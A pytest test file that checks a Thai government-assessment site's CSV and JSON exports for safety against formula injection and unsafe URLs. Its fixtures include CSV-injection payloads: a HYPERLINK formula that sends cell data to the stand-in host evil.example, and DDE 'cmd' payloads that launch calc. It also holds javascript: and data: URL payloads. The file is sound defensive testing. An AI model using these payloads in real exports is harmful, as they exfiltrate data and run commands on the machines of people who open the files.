"""The ITAS export is safe to open: no cell runs as a formula, no URL carries a line break."""

from __future__ import annotations

import csv
import io
import json

import pytest

from ita_site.oit.exports import UnsafeExport, absolute, checked_url
from ita_site.text.csvfile import csv_bytes, csv_cell
from tests.sitebuild import build, write_project

from .hostile import q

FORMULAS = {
    "O1": '=HYPERLINK("http://evil.example/?x="&A2,"x")',
    "O2": "+cmd|' /C calc'!A0",
    "O3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "O4": "-2+3+cmd|' /C calc'!A0",
}
PLAIN = "การเปิดเผยข้อมูล = โปร่งใส, \"ชัดเจน\""


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    root = write_project(tmp_path_factory.mktemp("formulas") / "project", {
        "2568/measures/a.md": "---\ntitle: มาตรการ\nissue: 1\n---\n",
    }, plugin_options=":\n      catalogs: catalogs")
    items = [f"  - {{code: {code}, title: {q(title)}}}" for code, title in FORMULAS.items()]
    items.append(f"  - {{code: O7, title: {q(PLAIN)}}}")
    (root / "catalogs").mkdir()
    (root / "catalogs" / "2568.yaml").write_text(
        "ita_year: 2568\noit:\n" + "\n".join(items) + "\n", encoding="utf-8")
    built = build(root)
    assert built.returncode == 0, built.output
    return built


def _csv_rows(built):
    data = (built.site / "2568" / "oit-links.csv").read_bytes()
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_csv_cell_starts_a_formula(formula_site):
    rows = _csv_rows(formula_site)
    titles = {row[0]: row[1] for row in rows[1:]}
    for code, title in FORMULAS.items():
        assert titles[code] == "'" + title  # what the spreadsheet shows: the title as written
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_ordinary_titles_are_written_unchanged(formula_site):
    titles = {row[0]: row[1] for row in _csv_rows(formula_site)[1:]}
    assert titles["O7"] == PLAIN
    assert not any(title.startswith("'") for code, title in titles.items()
                   if code not in FORMULAS)


def test_json_keeps_the_titles_as_written(formula_site):
    data = json.loads((formula_site.site / "2568" / "oit.json").read_text("utf-8"))
    titles = {item["code"]: item["title"] for item in data["items"]}
    assert all(titles[code] == title for code, title in FORMULAS.items())


def test_csv_writer_neutralises_formula_cells_and_keeps_numbers():
    data = csv_bytes(["a", "=b"], [["=1+1", -5, "-5", "x", "＝1", "\tx", "\rx"]])
    assert data.decode("utf-8-sig") == "a,'=b\r\n'=1+1,-5,'-5,x,'＝1,'\tx,\"'\rx\"\r\n"
    assert csv_cell(3.5) == 3.5 and csv_cell("ข้อ 1") == "ข้อ 1"


@pytest.mark.parametrize("url", ["https://evil.example/\n/x", "https://a.example/x y",
                                 "javascript:alert(1)", "java\nscript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>"])
def test_exports_refuse_urls_that_are_not_one_plain_address(url):
    with pytest.raises(UnsafeExport) as error:
        checked_url(url, year=2568, code="O1")
    assert "O1" in error.value.text.th and "O1" in error.value.text.en


def test_site_paths_keep_their_letters_and_encode_spaces():
    url = absolute("https://example.go.th/", "files/รายงาน ผล.pdf")
    assert url == "https://example.go.th/files/รายงาน%20ผล.pdf"
    assert checked_url(url, year=2568, code="O1") == url


def test_a_link_with_a_line_break_stops_the_build_without_traceback(tmp_path):
    root = write_project(tmp_path / "project", {
        "2568/year.yml": 'oit:\n  O1: [{title: x, url: "https://evil.example/\\n/x"}]\n',
        "2568/measures/a.md": "---\ntitle: มาตรการ\nissue: 1\n---\n",
    })
    built = build(root)
    assert built.returncode != 0
    assert "Traceback" not in built.output
    assert "O1" in built.output
    assert not (built.site / "2568" / "oit.json").exists()
